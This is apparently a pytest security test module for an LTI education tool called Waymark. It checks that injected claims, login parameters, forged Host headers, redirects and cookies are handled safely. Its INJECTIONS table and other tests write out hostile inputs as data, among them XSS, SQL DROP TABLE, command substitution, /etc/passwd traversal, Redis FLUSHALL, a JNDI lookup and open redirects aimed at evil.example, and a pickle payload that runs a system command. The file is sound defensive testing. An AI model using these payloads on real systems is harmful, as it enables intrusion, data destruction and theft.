"""The web around a launch: headers, hosts, cookies, addresses and what is injected: 4.W."""

import json
import re
import secrets
from html.parser import HTMLParser

import pytest

from tests.attacks.verdict import assert_accepted, assert_refused, cookies_of
from tests.lti_tool.classroom import ADMINISTRATOR, GUARDIAN, TEACHER, fill
from tests.lti_tool.platform import LTI, TOOL, begin, launch

INJECTIONS = {
    "markup": '"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)",
    "SQL": "'; DROP TABLE learners; --",
    "SQL that is true": "' OR '1'='1",
    "template": "{{7*7}}{% if 1 %}x{% endif %}${7*7}#{7*7}<%= 7*7 %>",
    "LDAP": "*)(uid=*))(|(uid=*",
    "NoSQL": '{"$gt": ""}',
    "JNDI": "${jndi:ldap://evil.example/a}",
    "command": "$(id);`id`|id",
    "path": "../../../../etc/passwd\\..\\",
    "Redis": "*1\r\n$8\r\nFLUSHALL\r\n",
    "format": "%s%n{0.__class__}",
    "line breaks": "a\r\nSet-Cookie: evil=1\r\n\r\n<h1>",
    "terminal": "\x1b]0;owned\x07\x1b[31m",
    "spreadsheet": '=HYPERLINK("https://evil.example")',
    "direction": "\u202eevil\u2066",
}
TEXT_CLAIMS = ("name", "email", "given_name", "sub", "picture")
OBJECT_CLAIMS = {
    "title of the course": ("context", {"id": "ctx-1", "title": ...}),
    "label of the course": ("context", {"id": "ctx-1", "label": ...}),
    "id of the course": ("context", {"id": ...}),
    "title of the link": ("resource_link", {"id": "l", "title": ...}),
    "id of the link": ("resource_link", {"id": ...}),
    "number of the course": ("custom", {"canvas_course_id": ..., "canvas_user_id": "7"}),
    "number of the person": ("custom", {"canvas_course_id": "101", "canvas_user_id": ...}),
    "competencies": ("custom", {"canvas_course_id": "101", "waymark_competencies": ...}),
    "role": ("roles", [...]),
    "platform": ("tool_platform", {"guid": ..., "name": ...}),
}


class Markup(HTMLParser):
    """What a browser would make of a page: its elements, and what of it could run."""

    def __init__(self, text):
        super().__init__()
        self.runs = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        given = dict(attrs)
        is_inline = tag == "script" and not (given.get("src") or "").startswith("/static/")
        is_handler = any(name.startswith("on") for name in given)
        is_link = any((given.get(name) or "").startswith("javascript:") for name in ("href", "src"))
        if is_inline or is_handler or is_link or tag in {"img", "iframe", "object", "base"}:
            self.runs.append((tag, attrs))


@pytest.fixture(scope="module")
def tables(shared_stage):
    """The classroom, filled once: the attacks change nothing in it."""
    return fill(shared_stage)


def injected(shape, text):
    if isinstance(shape, dict):
        return {name: injected(value, text) for name, value in shape.items()}
    if isinstance(shape, list):
        return [injected(value, text) for value in shape]
    return text if shape is ... else shape


def pages(browser, response):
    """The page that a launch leads to, and all of ours that it links to."""
    landing = browser.get(response.headers["Location"])
    below = set(re.findall(r'href="(/l/[^"#]+)"', landing.text))
    return [landing, *(browser.get(address) for address in sorted(below))]


def assert_harmless(stage, response, browser):
    assert response.status_code in {303, 400}, response.text
    if response.status_code != 303:
        assert_refused(stage, response)
        assert Markup(response.text).runs == []
        return
    for page in pages(browser, response):
        assert page.status_code < 500
        assert Markup(page.text).runs == []
        assert "49" not in re.findall(r"\b49\b", page.text)


@pytest.mark.usefixtures("tables")
@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS)
@pytest.mark.parametrize("name", TEXT_CLAIMS)
def test_w21_a_claim_is_text_whatever_it_says(stage, name, text):
    browser = stage.browser()

    assert_harmless(stage, launch(browser, stage.lms, **{name: text}), browser)


@pytest.mark.usefixtures("tables")
@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS)
@pytest.mark.parametrize(("name", "shape"), OBJECT_CLAIMS.values(), ids=OBJECT_CLAIMS)
def test_w21_what_stands_in_a_claim_is_text_whatever_it_says(stage, name, shape, text):
    browser = stage.browser()

    response = launch(browser, stage.lms, **{name: injected(shape, text)})

    assert_harmless(stage, response, browser)


@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS)
@pytest.mark.parametrize("name", ["iss", "client_id", "login_hint", "lti_message_hint", "foo"])
def test_w21_a_login_parameter_is_text_whatever_it_says(stage, name, text):
    response = stage.browser().post("/lti/login", data=stage.lms.login_form(**{name: text}))

    assert response.status_code in {302, 400, 404}
    assert Markup(response.text).runs == []
    assert "evil=1" not in cookies_of(response)
    assert response.headers.get("Location", "https://lms.example/auth").startswith(
        "https://lms.example/auth"
    )


@pytest.mark.parametrize(
    ("person", "page"), [({}, "me"), (TEACHER, "class"), (GUARDIAN, "family")], ids=str
)
@pytest.mark.usefixtures("tables")
def test_w01_a_page_may_be_framed_by_its_lms_alone(stage, person, page):
    browser = stage.browser()
    response = browser.get(launch(browser, stage.lms, **person).headers["Location"])

    assert response.request.path.endswith(page)
    policy = response.headers["Content-Security-Policy"]
    assert re.search(r"frame-ancestors ([^;]+)", policy)[1].split() == [
        "'self'",
        "https://lms.example",
        "https://school.lms.example",
    ]
    assert "X-Frame-Options" not in response.headers


def test_w02_the_lms_of_one_tenant_frames_no_page_of_another(stage):
    browser = stage.browser()

    response = browser.get(launch(browser, stage.other_issuer).headers["Location"])

    assert "https://lms2.example" in response.headers["Content-Security-Policy"]
    assert " https://lms.example" not in response.headers["Content-Security-Policy"]


@pytest.mark.parametrize("path", ["/", "/healthz", "/lti/jwks", "/nowhere", "/static/waymark.css"])
def test_w04_who_does_not_launch_gets_no_cookie(stage, path):
    with stage.browser().get(path) as response:
        assert cookies_of(response) == ""


@pytest.mark.parametrize("path", ["/", "/l/" + "0" * 32 + "/me", "/nowhere", "/lti/register"])
def test_w05_nothing_but_the_doors_of_lti_takes_a_post_from_anywhere(stage, path):
    response = stage.browser().post(
        path, data={"id": "x", "csrf": "x"}, headers={"Origin": "https://evil.example"}
    )

    assert response.status_code in {400, 403, 404, 405}


def test_w05_nothing_of_a_visit_is_changed_by_a_get(stage):
    rules = [rule for rule in stage.app.url_map.iter_rules() if rule.rule.startswith("/l/")]

    assert {method for rule in rules for method in rule.methods} <= {
        "GET", "HEAD", "OPTIONS", "POST",
    }  # fmt: skip


@pytest.mark.parametrize(
    "query",
    [
        "next=https://evil.example",
        "return_url=//evil.example",
        "target_link_uri=https://evil.example",
        "redirect=javascript:alert(1)",
        "//evil.example",
        "x=%0d%0aLocation:%20https://evil.example",
        "\\evil.example",
        "@evil.example",
    ],
)
def test_w07_no_link_leads_off_our_origin(stage, query):
    response = launch(stage.browser(), stage.lms, target_link_uri=f"{TOOL}/lti/launch?{query}")

    if response.status_code == 303:
        assert_accepted(stage, response)
        assert re.fullmatch(r"/l/[0-9a-f]{32}/me\?[!-~]*", response.headers["Location"])
        assert "\r" not in response.headers["Location"]
    else:
        assert_refused(stage, response)


@pytest.mark.parametrize(
    "path", ["//evil.example", "//healthz", "/l//" + "0" * 32, "/l/" + "0" * 32, "/%5Cevil.example"]
)
def test_w07_no_address_is_mended_by_leading_elsewhere(stage, path):
    response = stage.browser().get(
        "/", headers={"Host": "evil.example"}, environ_overrides={"PATH_INFO": path}
    )

    assert "Location" not in response.headers
    assert response.status_code in {200, 404}


def test_w09_no_log_line_of_a_launch_holds_what_was_sent(stage, caplog):
    caplog.set_level("DEBUG")
    browser = stage.browser()
    login = begin(browser, stage.lms)
    token = stage.lms.sign(stage.lms.claims(login.nonce, name="Ada \x1b[31m\r\nfaked: line"))

    launched = browser.post("/lti/launch", data={"id_token": token, "state": login.state})
    browser.get(launched.headers["Location"])

    session = cookies_of(launched).rpartition("=")[2][:20]
    for secret in (token, login.state, login.nonce, "ada@", "Ada", "faked", "\x1b", session):
        assert secret not in caplog.text


def test_w10_a_refusal_is_logged_with_the_reference_of_its_page_and_a_word(stage, caplog):
    caplog.set_level("INFO")

    response = stage.browser().post("/lti/launch", data={"id_token": "a.b.c", "state": "x"})

    reference = re.search(r"[0-9a-f]{8}", response.text.partition("Reference")[2])[0]
    (line,) = [line for line in caplog.text.splitlines() if reference in line]
    assert "reason=state_unknown" in line


@pytest.mark.parametrize("person", [{}, TEACHER, GUARDIAN, ADMINISTRATOR], ids=str)
@pytest.mark.usefixtures("tables")
def test_w11_no_page_of_a_person_is_kept_by_the_browser(stage, person):
    browser = stage.browser()

    for page in pages(browser, launch(browser, stage.lms, **person)):
        assert page.headers["Cache-Control"] == "no-store"


@pytest.mark.parametrize("header", ["Host", "X-Forwarded-Host", "X-Original-Host", "Forwarded"])
@pytest.mark.parametrize("value", ["evil.example", "waymark.example:1234", "evil.example/x?", ""])
def test_w13_where_waymark_is_comes_from_its_settings(stage, header, value):
    response = stage.browser().post(
        "/lti/login", data=stage.lms.login_form(), headers={header: value}
    )

    assert (
        "redirect_uri=https%3A%2F%2Fwaymark.example%2Flti%2Flaunch&"
        in (response.headers["Location"])
    )


def test_w13_what_waymark_says_of_itself_does_not_come_from_the_host_header(stage):
    response = stage.browser().get("/lti/canvas.json", headers={"Host": "evil.example"})

    assert response.status_code == 200
    assert "evil.example" not in response.text
    assert f"{TOOL}/lti/login" in json.dumps(response.json)


def test_w14_a_visitor_does_not_choose_the_address_that_is_counted(fresh_stage):
    statuses = {
        fresh_stage.bare()
        .post("/lti/launch", headers={"X-Forwarded-For": f"10.0.0.{number % 250}"})
        .status_code
        for number in range(1_600)
    }

    assert 429 in statuses


def test_w15_ninety_logins_side_by_side_leave_small_headers(stage):
    browser = stage.browser()
    for _ in range(90):
        stage.clock.pass_time(seconds=1)
        last = begin(browser, stage.lms)

    sent = "; ".join(f"{one.key}={one.value}" for one in browser._cookies.values())
    assert len(sent) < 2_000
    posted = {"id_token": stage.lms.sign(stage.lms.claims(last.nonce)), "state": last.state}
    assert_accepted(stage, browser.post("/lti/launch", data=posted))


def test_w15_ninety_foreign_cookies_are_cleared_and_do_no_harm(stage):
    foreign = "; ".join(f"__Host-waymark-login-{number:08x}=0.{'x' * 40}" for number in range(90))

    response = stage.bare().post(
        "/lti/login", data=stage.lms.login_form(), headers={"Cookie": foreign}
    )

    assert response.status_code == 302
    assert len(re.findall(r"login-[0-9a-f]{8}=;", cookies_of(response))) >= 60


@pytest.mark.parametrize(
    "path", ["/", "/lti/jwks", "/nowhere", "/l/" + "0" * 32 + "/me", "/static/waymark.css"]
)
def test_w17_every_answer_has_the_headers_that_protect_it(stage, path):
    with stage.browser().get(path) as response:
        headers = response.headers

    assert headers["Strict-Transport-Security"] == "max-age=31536000"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "no-referrer"
    assert "geolocation=()" in headers["Permissions-Policy"]
    policy = headers["Content-Security-Policy"]
    for part in ("default-src 'none'", "script-src 'self'", "base-uri 'none'", "form-action"):
        assert part in policy
    assert "unsafe" not in policy


def test_w18_no_answer_says_what_waymark_is_made_of(stage):
    for path in ("/", "/nowhere", "/lti/launch"):
        response = stage.browser().get(path)
        assert "X-Powered-By" not in response.headers
        assert not re.search(
            r"Traceback|werkzeug|flask|/site-packages/", response.text, re.IGNORECASE
        )


@pytest.mark.parametrize("page", ["me", "class", "family", "runs", "courses", "choose", "", "x"])
def test_w19_a_guessed_launch_is_not_there(stage, page):
    for _ in range(50):
        response = stage.browser().get(f"/l/{secrets.token_hex(16)}/{page}")
        assert response.status_code == 404


@pytest.mark.parametrize(
    "launch_id", ["0" * 31, "0" * 33, "G" * 32, "A" * 32, "..", "%00", "*", "0" * 31 + "\u0660"]
)
def test_w19_what_is_no_launch_id_is_no_address(stage, launch_id):
    assert stage.browser().get(f"/l/{launch_id}/me").status_code == 404


@pytest.mark.parametrize("person", [{}, TEACHER, GUARDIAN, ADMINISTRATOR], ids=str)
@pytest.mark.parametrize("page", ["learners", "class", "runs"])
def test_w19_no_number_in_an_address_shows_what_belongs_to_another_tenant(
    stage, tables, person, page
):
    browser = stage.browser()
    base = launch(browser, stage.lms, **person).headers["Location"].rpartition("/")[0]

    for number in [*range(60), 2**31, 2**63 - 1, 10**18 - 1]:
        response = browser.get(f"{base}/{page}/{number}")
        assert response.status_code in {200, 403, 404}
        assert "Foreign" not in response.text
    assert tables.learner["Foreigner"] < 60


@pytest.mark.parametrize("number", ["-1", "1.5", "1e3", "٣", "1" * 19, "0x1", "1%00", "null"])
def test_w19_what_is_no_number_is_no_address(stage, number):
    browser = stage.browser()
    base = launch(browser, stage.lms, **TEACHER).headers["Location"].rpartition("/")[0]

    assert browser.get(f"{base}/learners/{number}").status_code == 404


def test_w20_a_body_of_two_megabytes_is_not_read(stage):
    response = stage.browser().post("/lti/launch", data={"state": "x" * 2_000_000})

    assert response.status_code == 413


@pytest.mark.parametrize("method", ["TRACE", "CONNECT", "PATCH", "PROPFIND"])
def test_w26_methods_that_nothing_needs_are_refused(stage, method):
    for path in ("/", "/lti/launch", "/lti/jwks"):
        assert stage.browser().open(path, method=method).status_code == 405


def said(stage, **changes):
    """What a person reads when a launch with these changes is refused."""
    browser = stage.browser()
    login = begin(browser, stage.lms)
    key, header = changes.pop("key", None), changes.pop("header", None)
    token = stage.lms.sign(stage.lms.claims(**({"nonce": login.nonce} | changes)), header, key=key)
    response = browser.post("/lti/launch", data={"id_token": token, "state": login.state})
    assert_refused(stage, response)
    return response.status_code, response.text.partition("Reference")[0]


def test_w25_whatever_is_not_proven_is_told_in_the_same_words(stage, signing_keys):
    told = {
        said(stage, header={"alg": "RS256", "kid": "k9"}),
        said(stage, key=signing_keys["attacker"]),
        said(stage, nonce="another"),
        said(stage, iss="https://lms2.example"),
        said(stage, aud="client-B"),
        said(stage, exp=1),
        said(stage, header={"alg": "HS256", "kid": "k1"}),
    }

    assert len(told) == 1


def test_w25_an_unknown_platform_and_a_suspended_one_are_told_in_the_same_words(fresh_stage):
    stage = fresh_stage
    unknown = stage.browser().post("/lti/login", data=stage.lms.login_form(iss="https://x.example"))
    with stage.container.engine.begin() as connection:
        connection.exec_driver_sql("UPDATE platforms SET is_active = 0")
    stage.container.registrations_changed()
    stage.clock.pass_time(minutes=1)

    suspended = stage.browser().post("/lti/login", data=stage.lms.login_form())

    assert unknown.status_code == suspended.status_code == 404
    assert unknown.text.partition("Reference")[0] == suspended.text.partition("Reference")[0]


def test_w23_no_claim_of_a_launch_is_ever_unpickled_or_run(stage):
    browser = stage.browser()
    payload = "cos\nsystem\n(S'id'\ntR."

    response = launch(browser, stage.lms, **{LTI + "custom": {"canvas_user_id": payload}})

    assert_harmless(stage, response, browser)
    assert all(value.startswith(b"{") for value in map(stage.container.redis.get,
               stage.keys("waymark:launch:*")))  # fmt: skip
